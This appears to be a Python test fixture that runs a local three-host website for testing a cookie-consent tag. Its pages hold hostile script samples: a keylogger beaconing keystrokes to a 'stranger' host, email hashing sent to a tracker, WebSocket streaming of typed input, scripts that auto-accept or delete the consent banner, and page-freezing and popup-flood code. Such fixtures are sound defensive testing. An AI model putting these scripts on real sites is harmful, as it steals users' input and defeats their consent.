"""A site on this machine with pages of every kind, the tag in them, and two hosts beside it that it may call."""

from __future__ import annotations

import contextlib
import http.server
import threading
from collections.abc import Iterator
from typing import NamedTuple
from urllib.parse import urlsplit

PAGES: dict[str, str] = {
    "/": """{tag}<script type="text/plain" data-troth="_path">
        document.cookie = "_path=1; max-age=2592000; path=/"; new Image().src = "{supplier}/count.gif";</script>
        <script type="text/plain" data-troth="_count">document.cookie = "_count=1; path=/";</script>
        <h1>Maps</h1><p><a href="/shop">Shop</a> <a href="/logout">Leave</a></p>""",
    "/shop": """{tag}<h1>Shop</h1><form action="/send" method="post"><input name="name"><input type="email" name="mail">
        <textarea name="words"></textarea><button>Send</button></form>""",
    "/sneaky": """{tag}<script>document.cookie = "_sneaky=1; max-age=99999";
        localStorage.setItem("trail", "1");</script>""",
    "/early": """{tag}<script>document.cookie = "_path=1; max-age=2592000; path=/";</script>""",
    "/early-stores": """{tag}<script>localStorage.setItem("_trail", "1"); sessionStorage._trail = "1";
        localStorage.setItem("try", "1"); localStorage.removeItem("try");
        document.cookie = "try=1"; document.cookie = "try=;max-age=0";
        const made = indexedDB.open("_trail"); made.onsuccess = () => made.result.close();
        caches.open("_trail");</script>""",
    "/caller": """{tag}<img src="{stranger}/pixel.gif" alt="">""",
    "/moved": """{tag}<img src="/to-the-stranger" alt="">""",
    "/noscript": """{tag}<noscript><img src="{stranger}/pixel.gif" alt=""></noscript>""",
    "/keys": """{tag}<form><input name="name"><input type="email" name="mail"></form>
        <script>let keys = ""; addEventListener("keydown", e => { keys += e.key; });
        const tell = () => navigator.sendBeacon("{stranger}/keys", new Blob([btoa(keys)]));
        addEventListener("focusout", tell);</script>""",
    "/hashes": """{tag}<form><input type="email" name="mail"></form><script>
        addEventListener("change", async e => {
          const raw = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(e.target.value));
          const hex = [...new Uint8Array(raw)].map(one => one.toString(16).padStart(2, "0")).join("");
          fetch("{supplier}/match?em=" + hex, { mode: "no-cors" });
        });</script>""",
    "/socket": """{tag}<form><input name="name"></form><script>
        const ws = new WebSocket("{stranger}/live".replace("http", "ws"));
        const tell = e => ws.readyState === 1 && ws.send(JSON.stringify({ typed: e.target.value }));
        addEventListener("input", tell);</script>""",
    "/address": """<meta name="referrer" content="unsafe-url">{tag}<script type="text/plain" data-troth="_path">
        new Image().src = "{supplier}/count.gif";</script>""",
    "/stays": """{tag}<script type="text/plain" data-troth="_path">localStorage.setItem("stays", "1");
        document.cookie = "_path=1; max-age=2592000; path=/shop-or-not";
        document.cookie = "_path=1; max-age=2592000; path=/stays";</script>""",
    "/long": """{tag}<script type="text/plain" data-troth="_path">
        document.cookie = "_path=1; max-age=157680000; path=/";</script>""",
    "/yes-man": """{tag}<script>const again = setInterval(() => {
        const all = document.querySelector("#troth")?.shadowRoot?.querySelectorAll(".three button");
        if (all && all.length) { clearInterval(again); all[1].click(); } }, 50);</script>""",
    "/worker": """{tag}<script>navigator.serviceWorker.register("/worker.js");</script>""",
    "/sends": """{tag}<form action="/send" method="post"><input name="name"></form>
        <script>addEventListener("change", () => document.forms[0].submit());</script>""",
    "/busy": """{tag}<script>addEventListener("load", () => { for (;;); });</script>""",
    "/laden": """{tag}<script>const began = Date.now(), toil = setInterval(() => {
        const from = Date.now(); while (Date.now() - from < 1500);
        if (from - began > 9000) clearInterval(toil); }, 5);</script>""",
    "/deaf": """{tag}<script>addEventListener("load", () => { window.troth.choices = () => {}; });
        setInterval(() => document.querySelector("#troth")?.remove(), 5);</script>""",
    "/stay": """{tag}<form><input name="name"></form>
        <script>addEventListener("beforeunload", e => e.preventDefault());</script>""",
    "/windows": """{tag}<script>let open_ = 0; const more = setInterval(() => {
        if (open_ < 60) open("/windows-more?" + open_++); }, 20);
        alert("Stay"); confirm("Stay"); prompt("Stay");</script>
        <a download href="/count.gif">A file</a><script>document.querySelector("a").click();</script>""",
    "/windows-more": """<script>setTimeout(() => { new Image().src = "/alive.gif"; }, 250);</script>""",
    "/header": "{tag}<h1>A cookie in the header</h1>",
    "/bare": "<h1>No tag</h1>",
}
COOKIES: dict[str, tuple[str, ...]] = {
    "/header": ("_path=1; Max-Age=157680000; HttpOnly; Path=/header", "_seen=1; Expires=Wed, 01 Jan 2098 00:00:00 GMT"),
}


class Site(NamedTuple):
    origin: str
    supplier: str
    stranger: str
    got: list[str]  # METHOD path, of all three hosts: what really left the browser
    tag: list[bytes]  # the last is served

    def reached(self, word: str) -> list[str]:
        return [line for line in self.got if word in line]


class _Handler(http.server.BaseHTTPRequestHandler):
    site: Site
    sheet: bytes

    def do_GET(self) -> None:
        path = urlsplit(self.path).path
        self.site.got.append(f"{self.command} {self.headers.get('host')} {path}")
        if path.endswith("/tag.js"):
            self._say(self.site.tag[-1], "text/javascript")
        elif path.endswith("/tag.css"):
            self._say(self.sheet, "text/css")
        elif path == "/to-the-stranger":
            self.send_response(302)
            self.send_header("location", f"{self.site.stranger}/pixel.gif")
            self.end_headers()
        elif path in PAGES:
            tag = f'<!doctype html><title>A site</title><script src="{self.site.origin}/c/rowan/tag.js" defer></script>'
            words = PAGES[path].replace("{tag}", tag)
            for name in ("supplier", "stranger"):
                words = words.replace("{" + name + "}", getattr(self.site, name))
            self._say(words.encode(), "text/html; charset=utf-8", *COOKIES.get(path, ()))
        elif path.endswith((".gif", "/match", "/live")):
            self._say(b"GIF89a", "image/gif")
        else:
            self.send_error(404)

    do_POST = do_GET

    def _say(self, body: bytes, kind: str, *cookies: str) -> None:
        self.send_response(200)
        for cookie in cookies:
            self.send_header("set-cookie", cookie)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        with contextlib.suppress(ConnectionError):
            self.wfile.write(body)

    def log_message(self, *words: object) -> None:
        pass


@contextlib.contextmanager
def served() -> Iterator[tuple[Site, type[_Handler]]]:
    """Three hosts; a browser takes them for three, because a host is known by its name: 127.0.0.1, .2 and .3."""
    handler = type("Handler", (_Handler,), {"sheet": b""})
    servers = [http.server.ThreadingHTTPServer((f"127.0.0.{n}", 0), handler) for n in (1, 2, 3)]
    origins = [f"http://{one.server_address[0]}:{one.server_address[1]}" for one in servers]
    handler.site = Site(*origins, got=[], tag=[])
    threads = [threading.Thread(target=one.serve_forever, daemon=True) for one in servers]
    for thread in threads:
        thread.start()
    try:
        yield handler.site, handler
    finally:
        for one in servers:
            one.shutdown()
            one.server_close()
        for thread in threads:
            thread.join(10)
